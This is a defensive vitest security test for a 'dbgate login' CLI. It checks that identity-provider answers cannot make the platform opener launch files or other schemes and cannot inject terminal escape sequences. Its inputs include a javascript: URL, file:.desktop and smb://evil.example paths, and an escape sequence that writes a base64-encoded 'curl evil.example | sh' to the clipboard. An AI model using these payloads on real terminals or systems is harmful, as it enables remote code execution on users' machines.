import {chmod, mkdtemp, readFile, rm, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import path from 'node:path'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import {isolatedEnv} from '../helpers/open.js'
import {run} from '../helpers/run.js'
import {plantedIdp} from './planted-idp.js'

const BIN = path.resolve('bin/run.js')

/**
 * `dbgate login` hands the verification address the identity provider answers with to the
 * platform's opener (xdg-open, open, rundll32), and prints it and the user code on the terminal.
 * An IdP named by a ./dbgate.yaml of a cloned repository (login needs no trust) chooses both: the
 * opener runs whatever it is given (a `file:` path to a .desktop file or a macOS .command script,
 * any registered scheme), and the terminal obeys escape sequences. Only a web address is opened,
 * and what is printed is shown as text.
 */
describe('the verification address and user code an IdP answers with', () => {
  let device: (issuer: string) => Record<string, unknown> = () => ({})
  let idp: Awaited<ReturnType<typeof plantedIdp>>
  let dir: string
  let opened: string
  let env: NodeJS.ProcessEnv

  beforeAll(async () => {
    idp = await plantedIdp((issuer) => device(issuer))
    dir = await mkdtemp(path.join(tmpdir(), 'dbgate-opener-'))
    opened = path.join(dir, 'opened')
    // The platform opener of a desktop session, recording what it was asked to open.
    await writeFile(path.join(dir, 'xdg-open'), `#!/bin/sh\nprintf '%s\\n' "$@" >> '${opened}'\n`)
    await chmod(path.join(dir, 'xdg-open'), 0o755)
    await writeFile(path.join(dir, 'dbgate.yaml'), ['identity:', `  issuer: ${idp.issuer}`, '  clientId: dbgate-cli', 'targets:', '  prod:', '    host: 127.0.0.1', '    database: app', '    user: app', ''].join('\n'))
    env = {...isolatedEnv(), DBGATE_CONFIG: '', DBGATE_TOKEN: '', DBGATE_CLIENT_ID: '', DBGATE_CLIENT_SECRET: '', DISPLAY: ':0', WAYLAND_DISPLAY: '', PATH: `${dir}:${process.env.PATH}`}
  })
  afterAll(async () => {
    await new Promise((r) => idp?.server.close(r))
    await rm(dir, {recursive: true, force: true})
  })

  const login = async () => {
    await rm(opened, {force: true})
    const r = await run('node', [BIN, 'login', '--config', path.join(dir, 'dbgate.yaml')], {env, timeoutMs: 30_000})
    const got = await readFile(opened, 'utf8').then(
      (t) => t.split('\n').filter(Boolean),
      () => [],
    )
    return {...r, opened: got}
  }

  it('opens no file, path or other scheme given as verification_uri_complete, and offers only the web address', async () => {
    for (const complete of ['file:///tmp/dbgate-planted/evil.desktop', '/Applications/Calculator.app', 'javascript:alert(1)', 'ms-settings:', 'smb://evil.example/share/run.exe', '-a Terminal']) {
      device = (issuer) => ({device_code: 'd', user_code: 'ABCD-EFGH', verification_uri: `${issuer}/activate`, verification_uri_complete: complete, expires_in: 60, interval: 1})
      const r = await login()
      expect(r.opened, complete).not.toContain(complete)
      expect(r.stderr, complete).not.toContain(`open ${complete}`)
      expect(r.stderr).toContain(`open ${idp.issuer}/activate and enter the code ABCD-EFGH`)
    }
  })

  it('refuses a login whose verification_uri is no web address, saying what came and why, and opens nothing', async () => {
    for (const uri of ['file:///tmp/dbgate-planted/evil.desktop', '/usr/bin/xterm', 'javascript:alert(1)', 'http://idp.example.com/activate']) {
      device = () => ({device_code: 'd', user_code: 'ABCD-EFGH', verification_uri: uri, expires_in: 60, interval: 1})
      const r = await login()
      expect(r.opened, uri).toEqual([])
      expect(r.code, uri).not.toBe(0)
      expect(r.stderr).toContain(`The identity provider gave a verification address that is not a web page: ${uri}`)
      expect(r.stderr).not.toContain('enter the code')
    }
  })

  it('prints the user code and the addresses with terminal escapes made visible', async () => {
    device = (issuer) => ({
      device_code: 'd',
      user_code: 'ABCD\x1b[2K\rsigned in as admin',
      verification_uri: `${issuer}/activate`,
      verification_uri_complete: `${issuer}/activate?code=\x1b]8;;https://evil.example/\x07`,
      expires_in: 60,
      interval: 1,
    })
    const r = await login()
    expect(r.stderr).not.toContain('\x1b')
    expect(r.stderr).not.toContain('\r')
    expect(r.stderr).toContain('ABCD\\x1b[2K\\x0dsigned in as admin')
    expect(r.opened.join('\n')).not.toContain('\x1b')
  })

  it("shows the IdP's error answers with terminal escapes made visible, in text and --json", async () => {
    const hostile = 'no\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 way\x1b[2K\r\u202eok'
    for (const answer of [{error: 'invalid_request', error_description: hostile}, {error: `invalid\x1b[31m_request`}]) {
      device = () => answer
      for (const json of [false, true]) {
        const r = await run('node', [BIN, 'login', '--no-browser', '--config', path.join(dir, 'dbgate.yaml'), ...(json ? ['--json'] : [])], {env, timeoutMs: 30_000})
        expect(r.code).not.toBe(0)
        const out = r.stdout + r.stderr
        expect(out).toContain('refused the request')
        for (const raw of ['\x1b', '\x07', '\r', '\u202e']) expect(out, `${JSON.stringify(raw)} reached the terminal`).not.toContain(raw)
      }
    }
  })

  it('opens an https address, without the code: an opener\'s arguments are visible to every local user', async () => {
    device = () => ({device_code: 'd', user_code: 'ABCD-EFGH', verification_uri: 'https://idp.example.com/activate', verification_uri_complete: 'https://idp.example.com/activate?user_code=ABCD-EFGH', expires_in: 60, interval: 1})
    const r = await login()
    expect(r.opened).toEqual(['https://idp.example.com/activate'])
    // The person still sees both on their terminal.
    expect(r.stderr).toContain('ABCD-EFGH')
  })
})
